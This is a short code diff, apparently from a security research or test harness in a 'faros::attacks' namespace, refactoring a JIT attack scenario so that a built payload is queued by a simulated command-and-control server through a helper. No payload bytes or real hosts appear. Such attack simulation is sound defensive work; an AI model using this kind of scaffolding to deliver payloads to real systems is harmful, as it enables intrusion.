@@ -931,11 +719,7 @@ std::unique_ptr<os::EventSource> JitScenario::make_source() {
   spec.action = linking_ ? PayloadAction::kLinkedCompute
                          : PayloadAction::kCompute;
   spec.ending = PayloadEnding::kRet;
-  spec.compute_iters = 96;
-  auto payload = build_payload(spec);
-  auto c2 = std::make_unique<C2Server>();
-  if (payload.ok()) c2->queue_response(payload.value());
-  return c2;
+  return single_payload_c2(build_payload(spec));
 }
 
 }  // namespace faros::attacks
